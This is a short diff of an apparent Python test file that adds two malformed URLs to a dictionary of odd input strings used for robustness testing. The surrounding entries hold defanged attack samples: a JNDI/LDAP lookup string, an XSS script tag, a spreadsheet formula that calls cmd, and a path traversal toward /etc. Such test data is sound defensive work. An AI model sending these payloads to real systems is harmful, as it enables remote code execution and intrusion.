@@ -51,6 +51,8 @@ ODD_TEXTS: Final = {
     "jndi": f"${{jndi:ldap://{MARK}.invalid/a}}",
     "script": f"<script>alert('{MARK}')</script>",
     "formula": f"=cmd|'/C {MARK}'!A0",
+    "broken-host": f"https://[{MARK}",
+    "huge-port": f"https://{MARK}.invalid:99999999/",
     "path": f"../../../../etc/{MARK}",
     "full-width-digits": f"１００１９０００００００１{MARK}",
     "only-full-width-digits": "１００１９０００００００１",
